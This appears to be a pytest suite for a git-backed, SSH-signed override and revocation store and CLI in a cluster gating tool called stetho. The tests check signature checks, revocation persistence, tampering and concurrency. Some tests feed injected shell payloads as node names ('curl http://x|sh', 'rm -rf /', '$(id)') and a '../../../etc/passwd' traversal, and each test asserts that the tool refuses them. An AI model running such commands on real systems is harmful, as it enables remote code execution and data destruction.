"""Overrides in git and through the CLI: a real repository with a real bare remote under
tmp_path, real SSH keys, revocations read from the whole history (revert, delete and edit do
not undo them), the trust root kept out of the override repository, and concurrent writers as
real processes or real git hooks, never mocks."""

from __future__ import annotations

import dataclasses
import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
from click.testing import CliRunner

from stetho.cli import override as cli_override
from stetho.errors import ConfigError
from stetho.gate import override_actions as actions
from stetho.gate import signature_cache, signatures
from stetho.gate.override_check import effective, judging
from stetho.gate.override_store import GitError, OverrideStore, Snapshot
from stetho.gate.overrides import (
    MAX_FILE_BYTES,
    Override,
    OverridePolicy,
    SignFn,
    approval,
    approval_bytes,
    request,
    revocation,
    with_approval,
)
from tests.conftest import StethoEnv
from tests.signing import ACK, People, make_people, write_policy

HOUR = 3600.0


@pytest.fixture(scope="session")
def people(tmp_path_factory: pytest.TempPathFactory) -> People:
    return make_people(tmp_path_factory.mktemp("people"))


@pytest.fixture(autouse=True)
def hermetic(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, stetho_env: StethoEnv,
             people: People) -> None:
    """Git reads only this config (an identity, a default branch); caches go to tmp; gate
    policies come from the people's folder, trusting their allowed signers file."""
    cfg = tmp_path / "gitconfig"
    cfg.write_text("[user]\n\tname = Stetho Test\n\temail = test@example.invalid\n"
                   "[init]\n\tdefaultBranch = main\n[advice]\n\tdetachedHead = false\n")
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(cfg))
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
    for var in ("STETHO_OVERRIDE_REPO", "STETHO_USER", "STETHO_SIGNING_KEY", "SSH_AUTH_SOCK"):
        monkeypatch.delenv(var, raising=False)
    stetho_env.setenv("STETHO_CACHE", str(tmp_path / "cache"))
    stetho_env.setenv("STETHO_GATES", str(people.gates))
    stetho_env.setenv("STETHO_DB", str(tmp_path / "data" / "history.db"))  # its own record


@pytest.fixture
def policy(people: People) -> OverridePolicy:
    from stetho.gate.policy import load_override_policy

    return load_override_policy("release")


def by(people: People, name: str) -> SignFn:
    return lambda message: signatures.sign(message, people.key(name))


def pending(people: People, policy: OverridePolicy, nodes: list[str] | None = None,
            who: str = "alice") -> Override:
    return request(policy, "nccl_busbw", nodes or ["gpu07", "gpu08"], "RMA 4411", 24 * HOUR,
                   by(people, who))


def approved(people: People, policy: OverridePolicy, nodes: list[str] | None = None,
             approver: str = "bob") -> Override:
    o = pending(people, policy, nodes)
    return with_approval(o, approval(o, policy, ACK, by(people, approver)))


def git(cwd: Path, *argv: str) -> str:
    proc = subprocess.run(["git", *argv], cwd=cwd, text=True, capture_output=True)
    assert proc.returncode == 0, f"git {' '.join(argv)}: {proc.stderr}"
    return proc.stdout


@pytest.fixture
def remote(tmp_path: Path) -> Path:
    bare = tmp_path / "remote.git"
    subprocess.run(["git", "init", "-q", "--bare", "-b", "main", str(bare)], check=True)
    return bare


def clone(remote: Path, where: Path) -> Path:
    subprocess.run(["git", "clone", "-q", str(remote), str(where)], check=True,
                   capture_output=True)
    return where


def remote_files(remote: Path, folder: str = "overrides") -> dict[str, str]:
    """What the shared remote holds under `folder`, read straight from git objects."""
    if subprocess.run(["git", "rev-parse", "-q", "--verify", "main"], cwd=remote,
                      capture_output=True).returncode != 0:
        return {}  # nothing pushed yet
    names = git(remote, "ls-tree", "--name-only", "main", f"{folder}/").split()
    return {Path(n).stem: git(remote, "show", f"main:{n}") for n in names}


def remote_log(remote: Path) -> list[str]:
    return git(remote, "log", "--format=%s", "main").splitlines()


def judged(snap: Snapshot, policy: OverridePolicy, now: float | None = None
           ) -> tuple[list[str], dict[str, str]]:
    """(ids honoured, {id or file: why ignored}), as the gate decides on this snapshot."""
    import time

    with judging(policy, snap.root, snap.revocations, snap.problem) as judge:
        valid, ignored = effective(snap.overrides(), judge, now or time.time())
    why = {o.id: reason for o, reason in ignored}
    why.update({str(p): reason for p, reason in snap.unreadable()})
    return [h.id for h in valid], why


def seeded(people: People, remote: Path, tmp_path: Path, policy: OverridePolicy
           ) -> tuple[Path, OverrideStore, Override]:
    """A working clone, its store, and an approved override pushed through it."""
    work = clone(remote, tmp_path / "a")
    store = OverrideStore(str(work))
    o = approved(people, policy)
    store.save(o, "approved override")
    return work, store, o


# -- the store -----------------------------------------------------------------------------------


@pytest.mark.slow
def test_store_request_approve_verify_revoke_across_clones(people: People, remote: Path,
                                                           tmp_path: Path,
                                                           policy: OverridePolicy) -> None:
    a = OverrideStore(str(clone(remote, tmp_path / "a")))
    b = OverrideStore(str(clone(remote, tmp_path / "b")))
    assert a.read().entries == [] and b.read().revocations == []
    p = pending(people, policy)
    a.save(p, f"override request {p.id}")
    assert Override.from_json(remote_files(remote)[p.id]) == p

    # b pulls before reading: it sees a's request, approves it, pushes.
    assert b.read().overrides() == [p]
    a1 = approval(p, policy, ACK, by(people, "bob"))
    signed = b.add_approval(p.id, a1, lambda cur, snap: None, f"override approve {p.id}")
    assert signed.approvals == (a1,) and b.get(p.id) == signed
    assert judged(a.read(), policy) == ([p.id], {})
    assert git(tmp_path / "a", "log", "-1", "--format=%an <%ae>").strip() == \
        "Stetho Test <test@example.invalid>"

    r = revocation(p.id, "RMA done", by(people, "carol"))
    a.revoke(r, lambda cur, snap: None, f"override revoke {p.id}")
    assert remote_log(remote)[:3] == [f"override revoke {p.id}", f"override approve {p.id}",
                                      f"override request {p.id}"]
    valid, why = judged(b.read(), policy)
    assert valid == [] and why[p.id] == f"revoked by carol at {r.revoked_at} (RMA done)"
    assert Override.from_json(remote_files(remote)[p.id]) == signed  # the approval stays


@pytest.mark.slow
def test_store_refuses_to_rewrite_a_request_or_drop_an_approval(
        people: People, remote: Path, tmp_path: Path, policy: OverridePolicy) -> None:
    store = OverrideStore(str(clone(remote, tmp_path / "a")))
    o = approved(people, policy)
    store.save(o, "seed")
    widened = pending(people, policy, ["gpu09"])
    with pytest.raises(ConfigError, match="would change the request itself"):
        store.save(dataclasses.replace(widened, id=o.id), "widen")
    with pytest.raises(ConfigError, match="would lose or change an approval"):
        store.save(dataclasses.replace(o, approvals=()), "drop")
    r = revocation(o.id, "done", by(people, "carol"))
    store.revoke(r, lambda cur, snap: None, "revoke")
    with pytest.raises(ConfigError, match=f"{o.id} is already revoked .commit [0-9a-f]{{12}}.; "
                                          "a revocation is permanent"):
        store.revoke(r, lambda cur, snap: None, "again")
    with pytest.raises(ConfigError, match="is not an override id"):
        store.get("../../../etc/passwd")
    with pytest.raises(ConfigError, match="no override ovr-20261202T101500Z-000000"):
        store.get("ovr-20261202T101500Z-000000")
    with pytest.raises(ConfigError, match="no override ovr-20261202T101500Z-000000"):
        store.revoke(revocation("ovr-20261202T101500Z-000000", "x", by(people, "carol")),
                     lambda cur, snap: None, "x")


@pytest.mark.parametrize("undo", ["revert", "delete", "edit", "garble"])
@pytest.mark.slow
def test_a_revocation_survives_revert_delete_and_edit(people: People, remote: Path,
                                                      tmp_path: Path, policy: OverridePolicy,
                                                      undo: str, stetho_env: StethoEnv) -> None:
    work, store, o = seeded(people, remote, tmp_path, policy)
    store.revoke(revocation(o.id, "RMA done", by(people, "carol")), lambda c, s: None, "revoke")
    path = work / "revocations" / f"{o.id}.json"
    if undo == "revert":
        git(work, "revert", "--no-edit", "HEAD")
    elif undo == "delete":
        git(work, "rm", "-q", str(path))
        git(work, "commit", "-qm", "nothing to see here")
    else:
        if undo == "edit":  # make it revoke some other override instead
            d = json.loads(path.read_text())
            d["override"] = "ovr-20261202T101500Z-000000"
            path.write_text(json.dumps(d))
        else:
            path.write_text("{}")
        git(work, "commit", "-qam", "fix revocation")
    git(work, "push", "-q", "origin", "HEAD:main")
    assert undo in ("edit", "garble") or not path.exists()

    reader = OverrideStore(str(clone(remote, tmp_path / "b")))
    valid, why = judged(reader.read(), policy)
    assert valid == [] and why[o.id].startswith("revoked by carol at ")
    # A history without the revocation's commit: stetho's own record still revokes it; a
    # stetho that never saw the revocation (another record) would honour the override.
    fresh = clone(remote, tmp_path / "c")
    git(fresh, "checkout", "-q", "--orphan", "clean")
    git(fresh, "rm", "-rq", "--cached", ".")
    git(fresh, "add", "overrides")
    git(fresh, "commit", "-qm", "only the override")
    valid, why = judged(OverrideStore(str(fresh)).read(), policy)
    assert valid == [] and "kept in stetho's revocation record" in why[o.id]
    stetho_env.setenv("STETHO_DB", str(tmp_path / "elsewhere" / "history.db"))
    assert judged(OverrideStore(str(fresh)).read(), policy)[0] == [o.id]


@pytest.mark.slow
def test_garbage_revocation_files_still_revoke_and_strays_are_named(
        people: People, remote: Path, tmp_path: Path, policy: OverridePolicy) -> None:
    work, store, o = seeded(people, remote, tmp_path, policy)
    (work / "revocations").mkdir()
    (work / "revocations" / f"{o.id}.json").write_text("not json")
    (work / "revocations" / "notes.txt").write_text("not a revocation")
    git(work, "add", "-A")
    git(work, "commit", "-qm", "by hand")
    valid, why = judged(store.read(), policy)
    assert valid == []
    assert why[o.id].startswith(f"revoked: revocations/{o.id}.json in commit ")
    assert "not valid JSON" in why[o.id] and why[o.id].endswith("counts anyway")
    stray = str(work / "revocations" / "notes.txt")
    assert why[stray].startswith("revocations/notes.txt (commit ")


@pytest.mark.slow
def test_hand_edited_and_garbage_override_files_are_ignored_with_reasons(
        people: People, remote: Path, tmp_path: Path, policy: OverridePolicy) -> None:
    work = clone(remote, tmp_path / "a")
    store = OverrideStore(str(work))
    good, widened, tampered = (approved(people, policy), approved(people, policy),
                               approved(people, policy, ["gpu11"]))
    for o in (good, widened, tampered):
        store.save(o, f"override {o.id}")
    folder = work / "overrides"
    d = json.loads((folder / f"{widened.id}.json").read_text())
    d["nodes"] = ["gpu07", "gpu08", "gpu09"]
    (folder / f"{widened.id}.json").write_text(json.dumps(d))
    d = json.loads((folder / f"{tampered.id}.json").read_text())
    d["nodes"] = ["gpu11;curl http://x|sh"]
    (folder / f"{tampered.id}.json").write_text(json.dumps(d))
    (folder / "garbage.json").write_text("{this is not json")
    (folder / "ovr-20261202T101500Z-abcdef.json").write_text(good.to_json())  # wrong name
    (folder / "README.md").write_text("not an override; not read")
    git(work, "add", "-A")
    git(work, "commit", "-q", "-m", "hand edits")
    git(work, "push", "-q", "origin", "HEAD:main")

    b = tmp_path / "b"
    snap = OverrideStore(str(clone(remote, b))).read()
    assert len(snap.entries) == 5
    valid, why = judged(snap, policy)
    assert valid == [good.id]
    assert why[widened.id].endswith("Signature verification failed: incorrect signature")
    assert "invalid node name 'gpu11;curl http://x|sh'" in why[str(b / f"overrides/"
                                                                    f"{tampered.id}.json")]
    assert "not valid JSON" in why[str(b / "overrides" / "garbage.json")]
    assert "holds override" in why[str(b / "overrides/ovr-20261202T101500Z-abcdef.json")]


@pytest.mark.slow
def test_a_signers_file_in_the_override_repository_is_refused(
        people: People, remote: Path, tmp_path: Path, policy: OverridePolicy) -> None:
    work, store, o = seeded(people, remote, tmp_path, policy)
    # Someone who can push puts the trust root next to the overrides.
    inside = work / "gates" / "allowed_signers"
    inside.parent.mkdir()
    inside.write_text(people.signers.read_text())
    write_policy(inside.parent / "release.yml", "release", ["bob", "carol"], "allowed_signers")
    git(work, "add", "-A")
    git(work, "commit", "-qm", "policy and signers in the override repo")
    git(work, "push", "-q", "origin", "HEAD:main")
    replace = dataclasses.replace
    valid, why = judged(store.read(), replace(policy, signers=inside))
    assert valid == []
    assert why[o.id] == (f"policy 'release': its allowed signers file {inside} is inside the "
                         f"override repository {work}, where anyone who can push an override "
                         "could add a key: refused (keep it with the policy, outside that "
                         "repository)")
    # The same file in another clone of that repository, or reached through a symlink.
    other = clone(remote, tmp_path / "other") / "gates" / "allowed_signers"
    valid, why = judged(store.read(), replace(policy, signers=other))
    assert valid == [] and f"{other} is in a clone of the override repository" in why[o.id]
    link = tmp_path / "signers-link"
    link.symlink_to(inside)
    valid, why = judged(store.read(), replace(policy, signers=link))
    assert valid == [] and "is inside the override repository" in why[o.id]
    assert judged(store.read(), policy)[0] == [o.id]  # the policy's own file: honoured


@pytest.mark.slow
def test_a_shallow_clone_honours_nothing(people: People, remote: Path, tmp_path: Path,
                                         policy: OverridePolicy) -> None:
    store = OverrideStore(str(clone(remote, tmp_path / "a")))
    o = approved(people, policy)
    store.save(o, "approved")
    store.save(pending(people, policy, ["gpu01"]), "another, later")
    shallow = tmp_path / "shallow"
    subprocess.run(["git", "clone", "-q", "--depth", "1", f"file://{remote}", str(shallow)],
                   check=True, capture_output=True)
    valid, why = judged(OverrideStore(str(shallow)).read(), policy)
    assert valid == [] and why[o.id] == (
        f"the override repository {shallow} is a shallow clone: a revocation older than its "
        "history would be missed, so none is honoured (clone it in full, or give stetho its "
        "URL)")
    assert judged(OverrideStore(f"file://{remote}").read(), policy)[0] == [o.id]


@pytest.mark.slow
def test_store_from_url_clones_into_the_cache(people: People, remote: Path, tmp_path: Path,
                                              policy: OverridePolicy) -> None:
    by_url = OverrideStore(f"file://{remote}")
    by_path = OverrideStore(str(remote))  # a bare repository path is a remote too
    cache = tmp_path / "cache" / "override-repos"
    p = pending(people, policy)
    by_url.save(p, "one")
    assert len([d for d in cache.iterdir() if (d / ".git").is_dir()]) == 1
    assert by_path.read().overrides() == [p]
    q = pending(people, policy, ["gpu01"])
    by_path.save(q, "two")
    assert len([d for d in cache.iterdir() if (d / ".git").is_dir()]) == 2  # one per address
    assert sorted(o.id for o in by_url.read().overrides()) == sorted([p.id, q.id])
    on_branch = OverrideStore(f"file://{remote}", branch="overrides")
    assert on_branch.read().entries == []
    r = pending(people, policy, ["gpu02"])
    on_branch.save(r, "three")
    assert git(remote, "ls-tree", "--name-only", "-r", "overrides").split() == \
        [f"overrides/{r.id}.json"]
    assert set(remote_files(remote)) == {p.id, q.id}


@pytest.mark.slow
def test_git_failures_name_the_command(people: People, tmp_path: Path,
                                       monkeypatch: pytest.MonkeyPatch,
                                       policy: OverridePolicy) -> None:
    missing = OverrideStore(f"file://{tmp_path}/no-such-repo.git")
    with pytest.raises(GitError, match=r"`git ls-remote .*-- file://.*no-such-repo.git.*` "
                                       r"failed .*does not appear to be a git repository"):
        missing.read()
    with pytest.raises(ConfigError, match="neither a git working clone nor a URL"):
        OverrideStore(str(tmp_path / "nothing-here"))
    local = tmp_path / "local"
    subprocess.run(["git", "init", "-q", str(local)], check=True)
    cfg = tmp_path / "noident"
    cfg.write_text("[user]\n\tuseConfigOnly = true\n")
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(cfg))
    p = pending(people, policy)
    OverrideStore(str(local)).save(p, "no identity")  # stetho's fallback; no remote: commit
    assert git(local, "log", "-1", "--format=%an|%s").strip() == "stetho|no identity"


@pytest.mark.slow
def test_a_refused_push_stores_nothing_and_says_why(people: People, remote: Path,
                                                    tmp_path: Path,
                                                    policy: OverridePolicy) -> None:
    work = clone(remote, tmp_path / "a")
    hook = remote / "hooks" / "pre-receive"
    hook.write_text("#!/bin/sh\necho 'overrides are frozen today' >&2\nexit 1\n")
    hook.chmod(0o755)
    p = pending(people, policy)
    with pytest.raises(GitError, match=r"nothing stored: `git push origin HEAD:refs/heads/main`"
                                       r" failed .*overrides are frozen today"):
        OverrideStore(str(work)).save(p, "frozen")
    assert remote_files(remote) == {}
    assert not (work / "overrides" / f"{p.id}.json").exists()
    assert git(work, "status", "--porcelain").strip() == ""
    hook.unlink()
    OverrideStore(str(work)).save(p, "thawed")  # nothing left over: stores it now
    assert set(remote_files(remote)) == {p.id}


WRITER = textwrap.dedent("""
    import sys
    from pathlib import Path
    from stetho.gate import signatures
    from stetho.gate.override_store import OverrideStore
    from stetho.gate.overrides import OverridePolicy, request
    repo, who, n, key, signers = sys.argv[1:6]
    policy = OverridePolicy("release", ("bob",), Path(signers), "ok", 86400)
    store = OverrideStore(repo)
    for i in range(int(n)):
        o = request(policy, "nccl_busbw", [f"{who}{i:02d}"], f"by {who}", 3600,
                    lambda m: signatures.sign(m, Path(key)))
        store.save(o, f"request {o.id}")
        print(o.id, flush=True)
""")


@pytest.mark.slow
def test_two_clones_requesting_at_the_same_time_both_land(people: People, remote: Path,
                                                          tmp_path: Path,
                                                          policy: OverridePolicy) -> None:
    seed = OverrideStore(str(clone(remote, tmp_path / "seed")))
    first = pending(people, policy)
    seed.save(first, "seed")
    procs = [subprocess.Popen([sys.executable, "-c", WRITER, str(clone(remote, tmp_path / who)),
                               who, "4", str(people.key("alice")), str(people.signers)],
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
             for who in ("x", "y", "z")]
    ids: list[str] = []
    for proc in procs:
        out, err = proc.communicate(timeout=120)
        assert proc.returncode == 0, err
        ids += out.split()
    assert len(ids) == 12
    assert set(remote_files(remote)) == {first.id, *ids}
    assert len(remote_log(remote)) == 13


HOOK = textwrap.dedent("""\
    #!{python}
    # post-commit in clone b: once, another writer pushes from clone a before b can push.
    import pathlib, subprocess
    marker = pathlib.Path({marker!r})
    if not marker.exists():
        marker.write_text("fired")
        a = pathlib.Path({other!r})
        for rel, text in {files!r}.items():
            (a / rel).parent.mkdir(parents=True, exist_ok=True)
            (a / rel).write_text(text)
        subprocess.run(["git", "add", "-A"], cwd=a, check=True)
        subprocess.run(["git", "commit", "-qm", "interleaved"], cwd=a, check=True)
        subprocess.run(["git", "push", "-q", "origin", "HEAD:main"], cwd=a, check=True)
""")


def install_hook(repo: Path, other: Path, files: dict[str, str], tmp_path: Path) -> Path:
    """A post-commit hook in `repo` that, once, commits `files` in `other` and pushes."""
    marker = tmp_path / "hook-fired"
    hook = repo / ".git" / "hooks" / "post-commit"
    hook.write_text(HOOK.format(python=sys.executable, marker=str(marker), files=files,
                                other=str(other)))
    hook.chmod(0o755)
    return marker


@pytest.mark.slow
def test_rejected_push_pulls_rebases_and_retries(people: People, remote: Path, tmp_path: Path,
                                                 policy: OverridePolicy) -> None:
    a, b = clone(remote, tmp_path / "a"), clone(remote, tmp_path / "b")
    theirs, ours = pending(people, policy, ["gpu01"]), pending(people, policy, ["gpu02"])
    marker = install_hook(b, a, {f"overrides/{theirs.id}.json": theirs.to_json()}, tmp_path)
    OverrideStore(str(b)).save(ours, "ours")
    assert marker.exists()  # a really pushed between b's commit and b's push
    assert set(remote_files(remote)) == {theirs.id, ours.id}
    assert remote_log(remote) == ["ours", "interleaved"]
    assert git(b, "status", "--porcelain").strip() == ""


@pytest.mark.slow
def test_a_revocation_that_lands_first_refuses_the_approval(
        people: People, remote: Path, tmp_path: Path, stetho_env: StethoEnv,
        policy: OverridePolicy) -> None:
    a, b = clone(remote, tmp_path / "a"), clone(remote, tmp_path / "b")
    p = pending(people, policy)
    OverrideStore(str(a)).save(p, "request")
    r = revocation(p.id, "changed my mind", by(people, "alice"))
    install_hook(b, a, {f"revocations/{p.id}.json": r.to_json()}, tmp_path)
    with pytest.raises(ConfigError, match=f"{p.id} cannot be approved: revoked by alice"):
        actions.approve_override(OverrideStore(str(b)), p.id, ACK, people.key("bob"))
    assert Override.from_json(remote_files(remote)[p.id]).approvals == ()
    assert OverrideStore(str(b)).get(p.id) == p  # b's unpushed approval was dropped


# -- the CLI -------------------------------------------------------------------------------------


@pytest.fixture
def work(remote: Path, tmp_path: Path, stetho_env: StethoEnv) -> Path:
    path = clone(remote, tmp_path / "work")
    stetho_env.setenv("STETHO_OVERRIDE_REPO", str(path))
    return path


def run(*args: str, env: dict[str, str] | None = None
        ) -> tuple[int, str, BaseException | None]:
    result = CliRunner().invoke(cli_override.override, list(args), env=env)
    return result.exit_code, result.output, result.exception


def key_of(people: People, name: str) -> list[str]:
    return ["--key", str(people.key(name))]


def _request_args(people: People, who: str = "alice", **kw: str) -> list[str]:
    opts = {"--policy": "release", "--check": "nccl_busbw", "--nodes": "gpu[07-08]",
            "--reason": "RMA 4411", "--expires": "24h", **kw}
    return ["request", *[x for kv in opts.items() for x in kv], *key_of(people, who)]


def _requested(people: People) -> str:
    code, out, exc = run(*_request_args(people))
    assert code == 0, exc
    return out.splitlines()[0]


def refused(args: list[str], why: str, env: dict[str, str] | None = None) -> None:
    code, _, exc = run(*args, env=env)
    assert isinstance(exc, ConfigError) and why in str(exc), (args, exc)


@pytest.mark.slow
def test_cli_request_approve_list_revoke(people: People, work: Path, remote: Path) -> None:
    oid = _requested(people)
    assert oid.startswith("ovr-") and oid in remote_files(remote)
    code, out, _ = run("list")
    line = next(x for x in out.splitlines() if x.startswith(oid))
    expires = json.loads(remote_files(remote)[oid])["expires_at"]
    assert line.split() == [oid, "release", "nccl_busbw", "gpu[07-08]", "alice", "-", expires,
                            "pending"]
    code, out, exc = run("approve", oid, *key_of(people, "bob"), "--acknowledge", ACK)
    assert code == 0, exc
    assert out.startswith(f"approved {oid} as bob: nccl_busbw on gpu[07-08] under policy "
                          "release, requested by alice")
    code, out, _ = run("list")
    assert out.splitlines()[1].split()[4:] == ["alice", "bob", expires, "active"]
    code, out, _ = run("list", "--json")
    [row] = json.loads(out)
    assert (row["id"], row["state"], row["requester"], row["approver"]) == \
        (oid, "active", "alice", "bob")
    code, out, exc = run("revoke", oid, *key_of(people, "carol"), "--reason", "RMA done")
    assert code == 0, exc
    assert out.startswith("revoked by carol at ")
    code, out, _ = run("list")
    assert "no current overrides" in out
    code, out, _ = run("list", "--all")
    assert out.splitlines()[1].split()[-1] == "revoked"
    assert remote_log(remote) == [
        f"override revoke {oid} (signed by carol): RMA done",
        f"override approve {oid} (signed by bob)",
        f"override request {oid}: nccl_busbw on gpu[07-08] (signed by alice)"]


@pytest.mark.slow
def test_cli_typed_identity_never_changes_the_principal(people: People, work: Path,
                                                        remote: Path) -> None:
    pretend = {"STETHO_USER": "bob", "USER": "bob", "LOGNAME": "bob"}
    refused(_request_args(people, **{"--requester": "bob"}),
            f"--requester bob: your key {people.key('alice')} signs as alice, not bob",
            env=pretend)
    code, out, exc = run(*_request_args(people), env=pretend)
    assert code == 0, exc
    oid = out.splitlines()[0]
    assert "note: STETHO_USER=bob is not who signed: the key's principal is alice" in out
    # alice, calling herself bob every way she can, approves her own request: still alice.
    refused(["approve", oid, *key_of(people, "alice"), "--acknowledge", ACK],
            "self-approved: alice signed both the request and the approval with one key",
            env=pretend)
    refused(["approve", oid, *key_of(people, "alice"), "--acknowledge", ACK, "--approver",
             "bob"], f"--approver bob: your key {people.key('alice')} signs as alice, not bob",
            env=pretend)
    refused(["approve", oid, *key_of(people, "alice2"), "--acknowledge", ACK],
            "self-approved: the approval is signed by alice, with a key also listed for alice")
    assert json.loads(remote_files(remote)[oid])["approvals"] == []
    code, out, _ = run("list", env=pretend)
    assert out.splitlines()[1].split()[4:6] == ["alice", "-"]


@pytest.mark.slow
@pytest.mark.parametrize(("edit", "why"), [
    ({"--nodes": "gpu07;rm -rf /"}, "invalid node name 'gpu07;rm -rf /'"),
    ({"--nodes": "gpu[07-08],$(id)"}, "invalid node name"),
    ({"--expires": "8d"}, "expiry 8d is over the cap of policy 'release' (1w)"),
    ({"--expires": "0h"}, "must expire"),
    ({"--expires": "forever"}, "--expires 'forever': expected a duration"),
    ({"--reason": " "}, "reason must not be empty"),
    ({"--check": "nccl*"}, "no wildcards"),
    ({"--policy": "nope"}, "unknown gate policy 'nope'"),
    ({"--check": "nccl_bsubw"}, "--check: unknown check 'nccl_bsubw'; did you mean nccl_busbw"),
    ({"--check": "gate"}, "--check: 'gate' is not a check: it is the gate's own result for a "
                          "node it could not check at all"),
    ({"--check": "sweep"}, "--check: 'sweep' is not a check"),
], ids=["node-shell", "node-subst", "over-cap", "zero", "forever", "no-reason", "wildcard",
        "no-policy", "misspelled-check", "pseudo-gate", "pseudo-sweep"])
def test_cli_request_refusals(people: People, work: Path, remote: Path, edit: dict[str, str],
                              why: str) -> None:
    refused(_request_args(people, **edit), why)
    assert remote_files(remote) == {}  # nothing was stored


@pytest.mark.slow
def test_cli_request_refuses_a_check_the_policy_does_not_gate_on(
        people: People, work: Path, remote: Path, tmp_path: Path) -> None:
    gates = tmp_path / "gates"
    gates.mkdir()
    (gates / "allowed_signers").write_text(people.signers.read_text())
    policy = write_policy(gates / "listed.yml", "listed", ["bob"], "allowed_signers")
    policy.write_text(policy.read_text() + "checks: [gpu_xid, gpu_ecc]\n")
    env = {"STETHO_GATES": str(gates)}
    refused(_request_args(people, **{"--policy": "listed", "--check": "gpu_ecc_correctable"}),
            "--check: policy 'listed' does not gate on 'gpu_ecc_correctable', so an override "
            "for it would let nothing pass; it gates on gpu_ecc, gpu_xid", env=env)
    assert remote_files(remote) == {}  # nothing was stored
    code, _, exc = run(*_request_args(people, **{"--policy": "listed", "--check": "gpu_ecc"}),
                       env=env)
    assert code == 0, exc


@pytest.mark.slow
def test_cli_request_refuses_a_key_the_policy_does_not_trust(people: People, work: Path,
                                                             remote: Path) -> None:
    refused(_request_args(people, "mallory"), f"your key {people.key('mallory')} is not "
            "accepted by the policy's allowed signers file: the key is not in the allowed")
    refused(_request_args(people)[:-2] + ["--key", str(work / "nope")], "no signing key at")
    assert remote_files(remote) == {}


@pytest.mark.slow
def test_cli_approve_refusals(people: People, work: Path, remote: Path) -> None:
    oid = _requested(people)
    approve = ["approve", oid, "--acknowledge", ACK]
    refused([*approve, *key_of(people, "dave")], "the approval is signed by dave, who is not "
                                                 "an approver for policy 'release'")
    refused([*approve, *key_of(people, "mallory")], "is not accepted by the policy's allowed "
                                                    "signers file")
    for ack in (ACK + " ", ACK.upper(), ACK[:-1]):
        refused(["approve", oid, "--acknowledge", ack, *key_of(people, "bob")],
                "acknowledgement must be exactly")
    assert json.loads(remote_files(remote)[oid])["approvals"] == []
    code, _, exc = run(*approve, *key_of(people, "bob"), "--approver", "bob")
    assert code == 0, exc
    refused([*approve, *key_of(people, "carol")], f"{oid} is already approved: requested by "
                                                  "alice, approved by bob")
    refused(["list"], "no override repository", env={"STETHO_OVERRIDE_REPO": ""})


@pytest.mark.slow
def test_cli_revoke_only_by_those_entitled_and_only_once(people: People, work: Path,
                                                         remote: Path) -> None:
    oid = _requested(people)
    refused(["revoke", oid, "--reason", "x", *key_of(people, "mallory")],
            "is not accepted by the policy's allowed signers file")
    refused(["revoke", oid, "--reason", "x", *key_of(people, "dave")],
            f"dave may not revoke {oid}: only its requester, an approver or a principal of "
            "policy 'release' (bob, carol) may")
    assert remote_files(remote, "revocations") == {}
    code, out, exc = run("revoke", oid, "--reason", "not needed", *key_of(people, "alice"))
    assert code == 0 and out.startswith("revoked by alice at "), exc
    refused(["revoke", oid, "--reason", "x", *key_of(people, "carol")],
            f"{oid} is already revoked: revoked by alice")
    refused(["approve", oid, "--acknowledge", ACK, *key_of(people, "bob")],
            f"{oid} cannot be approved: revoked by alice")


@pytest.mark.slow
def test_cli_list_survives_garbage_and_tampering(people: People, work: Path) -> None:
    oid = _requested(people)
    run("approve", oid, "--acknowledge", ACK, *key_of(people, "bob"))
    path = work / "overrides" / f"{oid}.json"
    d = json.loads(path.read_text())
    d["nodes"].append("gpu09")
    path.write_text(json.dumps(d))
    (work / "overrides" / "junk.json").write_bytes(b"\x00\x01garbage")
    git(work, "add", "-A")
    git(work, "commit", "-qm", "widen by hand, and junk")
    code, out, exc = run("list")
    assert code == 0, exc
    rows = {line.split()[0]: line for line in out.splitlines()[1:]}
    assert "invalid: the request's signature does not verify against " in rows[oid]
    assert rows[oid].endswith("Signature verification failed: incorrect signature")
    assert "gpu[07-09]" in rows[oid]
    assert "invalid: overrides/junk.json: not valid JSON" in rows["junk"]
    code, out, _ = run("list", "--json")
    states = {r["id"]: (r["state"], r["reason"]) for r in json.loads(out)}
    assert states[oid][0] == "invalid" and states[oid][1].endswith("incorrect signature")
    assert states["junk"][1].startswith("overrides/junk.json")


@pytest.mark.slow
def test_an_approval_under_an_attackers_policy_copy_neither_counts_nor_blocks(
        people: People, work: Path, tmp_path: Path, stetho_env: StethoEnv) -> None:
    oid = _requested(people)
    # mallory's own copy of the release policy, trusting her own signers file, in which her
    # key is called "bob".
    evil = tmp_path / "evil"
    (evil / "allowed_signers").parent.mkdir()
    (evil / "allowed_signers").write_text(people.line("alice") + people.line("mallory", "bob"))
    write_policy(evil / "release.yml", "release", ["bob"], "allowed_signers")
    code, out, exc = run("approve", oid, "--acknowledge", ACK, *key_of(people, "mallory"),
                         env={"STETHO_GATES": str(evil)})
    assert code == 0, exc  # her stetho believes her
    assert out.startswith(f"approved {oid} as bob")
    code, out, _ = run("list", "--json")  # the real policy does not
    [row] = json.loads(out)
    assert row["state"] == "invalid" and row["reason"].startswith(
        "the approval's signature does not verify")
    code, out, exc = run("approve", oid, "--acknowledge", ACK, *key_of(people, "bob"))
    assert code == 0, exc  # nor does hers block the real bob
    code, out, _ = run("list", "--json")
    [row] = json.loads(out)
    assert (row["state"], row["approver"], len(row["approvals"])) == ("active", "bob", 2)


# -- hardening round 3 (issue 28) ---------------------------------------------------------------


def _as_url(remote: Path) -> dict[str, str]:
    """A reader that uses stetho's cached clone, reset to the remote's tip on every read."""
    return {"STETHO_OVERRIDE_REPO": f"file://{remote}"}


def _states(remote: Path) -> dict[str, tuple[str, str]]:
    code, out, exc = run("list", "--all", "--json", env=_as_url(remote))
    assert code == 0, exc
    return {r["id"]: (r["state"], r["reason"]) for r in json.loads(out)}


def _push_all(work: Path, message: str) -> None:
    git(work, "add", "-A")
    git(work, "commit", "-qm", message)
    git(work, "push", "-q", "origin", "HEAD:main")


@pytest.mark.slow
@pytest.mark.parametrize("check", ["gate", "sweep", "no_such_check"])
def test_cli_refuses_pseudo_and_unknown_checks_before_signing_and_at_approval(
        people: People, work: Path, remote: Path, policy: OverridePolicy, check: str) -> None:
    # Refused before anything is signed: the key does not even exist.
    refused(_request_args(people, **{"--check": check})[:-2] + ["--key", str(work / "nokey")],
            f"--check: {'unknown check' if check == 'no_such_check' else repr(check)}")
    assert remote_files(remote) == {}
